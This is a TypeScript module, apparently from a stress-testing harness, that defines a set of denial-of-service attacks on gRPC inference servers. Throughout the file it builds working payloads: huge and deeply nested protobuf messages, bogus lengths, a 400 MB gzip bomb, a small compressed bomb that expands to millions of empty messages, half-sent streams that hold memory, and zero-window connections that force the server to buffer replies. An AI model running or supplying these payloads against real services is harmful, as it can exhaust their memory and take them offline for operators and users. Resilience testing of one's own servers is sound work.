import { gzipSync } from 'node:zlib';
import { call, callOnce, openSession } from '../grpc-client.js';
import { field, framed, inferMessage, sloParameter, times, varint } from '../protobuf.js';
import { repeat, sleepUntil, type Tally } from '../tally.js';
import type { Attack, Target } from '../target.js';

/** gRPC messages that are dear to decode, to keep or to answer. */

const MEGA = 1_000_000;

const messages: readonly (readonly [string, () => Buffer])[] = [
  // Shapes and lists come packed, a byte an element.
  ['grpc shape of 20 million', () => inferMessage([], [field(3, Buffer.alloc(20 * MEGA, 1))])],
  ['grpc 30 million int_contents', () => inferMessage([], [field(5, field(2, Buffer.alloc(30 * MEGA, 1)))])],
  ['grpc 5 million raw contents', () => inferMessage([times(5 * MEGA, field(7, ''))])],
  [
    'grpc an output named 1 million times',
    () => inferMessage([sloParameter(60_000), times(MEGA, field(6, field(1, 'output')))]),
  ],
  ['grpc 10 million empty inputs', () => inferMessage([times(10 * MEGA, field(5, ''))])],
  ['grpc 5 million parameters', () => inferMessage([times(5 * MEGA, field(4, ''))])],
  ['grpc 10,000 levels of groups', () => inferMessage([Buffer.alloc(10_000, 0x7b)])],
  ['grpc lengths beyond the message', () => inferMessage([varint(5 * 8 + 2), varint(2 ** 40)])],
];

/** 64 kB on the wire: 32 million empty messages. */
export function submessageBomb(fieldNumber: number, path: readonly number[] = []): Buffer {
  const many = times(32 * MEGA - 64, Buffer.from([fieldNumber * 8 + 2, 0]));
  return gzipSync(path.reduceRight((inner, number) => field(number, inner), many));
}

export const GRPC_ATTACKS: readonly Attack[] = [
  ...messages.map(
    ([name, make]): Attack => ({
      name,
      setting: 'plain',
      run: (target, tally, untilMs) => callAgain(target, tally, untilMs, 3, framed(make())),
    }),
  ),
  { name: 'grpc gzip bomb of 400 MB', setting: 'plain', run: gzipBomb },
  { name: 'grpc 64 kB gzip of empty messages', setting: 'plain', run: submessages },
  { name: 'grpc 64 kB gzip of empty messages', setting: 'token', run: submessages },
  { name: 'grpc 50 streams hold 60 MB each', setting: 'plain', run: holdStreams },
  { name: 'grpc 50 streams hold 60 MB each', setting: 'token', run: holdStreams },
  { name: 'grpc 1,000 announced and not sent', setting: 'plain', run: announce },
  { name: 'grpc answers that are never read', setting: 'plain', run: neverRead },
];

function callAgain(
  { grpc, tls }: Target,
  tally: Tally,
  untilMs: number,
  lanes: number,
  body: Buffer,
  headers: Readonly<Record<string, string>> = {},
): Promise<void> {
  return repeat(lanes, untilMs, () => callOnce(grpc, tls, tally, { body, headers }));
}

function gzipBomb(target: Target, tally: Tally, untilMs: number): Promise<void> {
  const body = framed(gzipSync(Buffer.alloc(400 * MEGA)), true);
  return callAgain(target, tally, untilMs, 4, body, { 'grpc-encoding': 'gzip' });
}

function submessages(target: Target, tally: Tally, untilMs: number): Promise<void> {
  const body = framed(submessageBomb(5), true);
  return callAgain(target, tally, untilMs, 2, body, { 'grpc-encoding': 'gzip' });
}

/** Messages that lack their last bytes, on ten connections. */
async function holdStreams({ grpc, tls }: Target, tally: Tally, untilMs: number): Promise<void> {
  const body = framed(Buffer.alloc(60 * MEGA)).subarray(0, -10);
  for (let i = 0; i < 10; i++) {
    const session = await openSession(grpc, tls, tally);
    if (session === null) continue;
    for (let j = 0; j < 5; j++) void call(session, tally, { body, end: false });
  }
  await sleepUntil(untilMs);
}

async function announce({ grpc, tls }: Target, tally: Tally, untilMs: number): Promise<void> {
  const body = framed(Buffer.alloc(60 * MEGA)).subarray(0, 5);
  for (let i = 0; i < 20; i++) {
    const session = await openSession(grpc, tls, tally);
    if (session === null) continue;
    for (let j = 0; j < 50; j++) void call(session, tally, { body, end: false });
  }
  await sleepUntil(untilMs);
}

/** Windows of nothing: each answer has to be kept. */
async function neverRead({ grpc, tls }: Target, tally: Tally, untilMs: number): Promise<void> {
  const body = framed(inferMessage());
  const repeated = framed(inferMessage([sloParameter(60_000), times(20_000, field(6, field(1, 'output')))]));
  for (let i = 0; i < 20; i++) {
    const session = await openSession(grpc, tls, tally);
    if (session === null) continue;
    session.settings({ initialWindowSize: 0 });
    for (let j = 0; j < 100; j++) void call(session, tally, { body: j === 0 ? repeated : body });
  }
  await sleepUntil(untilMs);
}
